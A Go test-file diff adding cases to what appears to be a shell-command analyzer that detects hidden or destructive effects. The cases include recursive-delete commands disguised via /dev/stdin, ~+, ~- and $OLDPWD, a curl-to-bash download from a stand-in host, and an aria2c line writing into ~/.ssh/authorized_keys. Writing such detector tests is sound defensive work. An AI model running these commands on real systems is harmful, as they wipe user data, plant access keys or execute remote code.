@@ -111,6 +111,18 @@ var hiddenCommandTable = []shellCase{
 	{cmd: `aria2c -d ~/.ssh -o authorized_keys https://x.example/k`, want: []Effect{eConn("x.example", "443"), eDl("https://x.example/k", "/home/ann/.ssh/authorized_keys")}},
 	{cmd: `aria2c https://example.com/ubuntu.iso`, want: []Effect{eDl("https://example.com/ubuntu.iso", "/work/proj/ubuntu.iso")}},
 
+	// ---- standard input named as a file; ~+ and ~- ----
+	{cmd: `source /dev/stdin <<< 'rm -rf ~'`, want: []Effect{eDelR("/home/ann")}},
+	{cmd: `bash /dev/stdin <<< 'rm -rf ~'`, want: []Effect{eDelR("/home/ann")}},
+	{cmd: `sh /proc/self/fd/0 <<< 'rm -rf ~'`, want: []Effect{eDelR("/home/ann")}},
+	{cmd: `bash /dev/fd/0 <<< 'rm -rf ~'`, want: []Effect{eDelR("/home/ann")}},
+	{cmd: `curl -s https://x.example/a | bash /dev/stdin`, want: []Effect{eDlInto("x.example", "bash")}, unk: shUnkYes},
+	{cmd: `rm -rf ~+/..`, want: []Effect{eDelR("/work")}},
+	{cmd: `rm -rf ~+/build`, want: []Effect{eDelR("/work/proj/build")}},
+	{cmd: `cd / && cd /work/proj && rm -rf ~-`, want: []Effect{eDelR("/")}},
+	{cmd: `cd /; cd /work/proj; rm -rf "$OLDPWD"`, want: []Effect{eDelR("/")}},
+	{cmd: `rm -rf ~-`, unk: shUnkYes, not: []Effect{eDelR("/work/proj/~-")}},
+
 	// ---- ordinary spellings next to them: read, and nothing hidden ----
 	{cmd: `git -c core.pager=cat log`, want: []Effect{eRun("cat")}},
 	{cmd: `git -c user.name=ann commit -m x`, not: []Effect{eRun("ann")}},
